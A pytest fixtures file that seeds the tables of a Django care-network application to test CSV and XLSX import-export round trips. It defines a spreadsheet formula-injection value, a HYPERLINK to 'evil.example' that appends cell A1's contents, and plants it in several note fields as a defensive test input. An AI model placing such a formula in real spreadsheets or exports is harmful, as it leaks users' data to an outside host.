"""Tables to import and export: one or two rows in every table that has a resource, with the
cells that used to break a round trip (empty cells, a formula, a phone number with a +)."""

import datetime
import io
from decimal import Decimal

import pytest
import tablib

from missions.models import (
    ActivityCount,
    ComplexityLevel,
    Indicator,
    IndicatorDirection,
    IndicatorLevel,
    IndicatorValue,
    MissionTask,
    PartnerOrganisation,
    SextupleAim,
)
from networks.models import Municipality, PrimaryCareZone, ReformOrganisation
from tests.missions.factories import PartnerTypeFactory, make_themes
from tests.networks import factories as geo
from tests.transition.factories import ActionLineFactory, FundingFactory
from transition.models import FundingFigure, FundingKind

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


def csv_bytes(headers, rows) -> bytes:
    dataset = tablib.Dataset(*rows, headers=headers)
    return dataset.export("csv").encode("utf-8")


def csv_dataset(headers, rows) -> tablib.Dataset:
    return tablib.Dataset(*rows, headers=headers)


def xlsx_bytes(dataset) -> bytes:
    from import_export.formats.base_formats import XLSX

    return XLSX().export_data(dataset)


def upload(content: bytes, name: str):
    file = io.BytesIO(content)
    file.name = name
    return file


@pytest.fixture
def every_table(network_a):
    kempen = geo.RegionalCareZoneFactory(code="kempen", name="Kempen")
    cluster = geo.PrimaryCareZoneFactory(code="antwerpen-en-rand", kind=PrimaryCareZone.Kind.ELZ_CLUSTER)
    elz = geo.PrimaryCareZoneFactory(code="baldemore", name="Baldemore", parent=cluster)
    mol = geo.MunicipalityFactory(nis_code="13025", name="Mol", notes=FORMULA)
    geo.MunicipalityFactory(
        nis_code="21004", name="Brussel", region=Municipality.Region.BRUSSELS, province=""
    )
    geo.MunicipalityFiguresFactory(municipality=mol, year=2026, aged_80_plus=None, deaths=None)
    geo.RegionalCareZoneMembershipFactory(municipality=mol, zone=kempen)
    geo.PrimaryCareZoneMembershipFactory(municipality=mol, zone=elz, valid_until=datetime.date(2030, 12, 31))
    pn = geo.LegacyOrganisationFactory(code="pn-test", seat=mol, notes=FORMULA, phone="+32 14 00 00 00")
    mbe = geo.LegacyOrganisationFactory(mbe=True, code="mbe-test", partner=pn)
    pn.partner = mbe
    pn.save()
    pn.derived_regional_care_zones.add(kempen)
    themes = make_themes()
    MissionTask.objects.create(theme=themes[0], letter="a", description="Noden", description_en="Needs")
    gps = PartnerTypeFactory(code="huisartsen", name="Huisartsen", name_en="GPs")
    PartnerOrganisation.objects.create(
        code="kring-mol", name="Huisartsenkring Mol (demo)", partner_type=gps, regional_care_zone=kempen,
        municipality=mol, is_demo=True, note=FORMULA, certainty="PLANNED", source="Test",
    )  # fmt: skip
    PartnerOrganisation.objects.create(
        code="vlaanderen", name="Overal", partner_type=gps, primary_care_zone=elz
    )
    SextupleAim.objects.create(number=1, code="gelijkheid", name="Gelijkheid", name_en="Equity")
    ComplexityLevel.objects.create(
        code="hoog", order=3, name="Hoog complexe zorg", name_en="High complex care"
    )
    by_zone = Indicator.objects.create(
        code="kansarmoede", name="Kansarmoede", name_en="Deprivation", direction=IndicatorDirection.MORE_NEED
    )
    by_town = Indicator.objects.create(
        code="mantelzorg",
        name="Mantelzorg",
        name_en="Informal care",
        direction=IndicatorDirection.LESS_NEED,
        level=IndicatorLevel.MUNICIPALITY,
        weight=Decimal("0.5"),
        weight_source="Eigen aanname (test)",
    )
    IndicatorValue.objects.create(indicator=by_zone, zone=kempen, year=2025, value=Decimal("-4.25"))
    IndicatorValue.objects.create(indicator=by_town, municipality=mol, year=2025, value=Decimal("12.5"))
    ActivityCount.objects.create(network=network_a, municipality=mol, year=2025, count=3)
    line = ActionLineFactory(position=1, work_form_note="")
    line.revisions.create(stated_on="2025-07", target_as_written="midden 2027", target_end="2027-mid")
    geo.recognition_day_row()
    FundingFactory(network=network_a, note="")
    FundingFactory(network=None, legacy_organisation=pn, kind=FundingKind.FORFAIT, amount=Decimal("1234.56"))
    consortium = ReformOrganisation.objects.create(
        code="consortium", name="Consortium", role="CONSORTIUM", active_from="2025-01", certainty="FIXED"
    )
    envelope = FundingFigure.objects.create(
        code="extra",
        kind="ENVELOPE",
        title="Extra",
        amount=Decimal("5000000"),
        year_from=2024,
        recurrent=True,
    )
    share = FundingFigure.objects.create(
        code="extra-mbe", kind="SHARE", title="MBE", part_of=envelope, year_from=2024, intended_kind="MBE"
    )
    FundingFactory(network=None, organisation=consortium, drawn_from=envelope, year=2024, amount=Decimal("5"))
    FundingFactory(network=None, legacy_organisation=mbe, drawn_from=share, year=2024, amount=Decimal("7"))
    return {"kempen": kempen, "mol": mol, "pn": pn, "mbe": mbe}
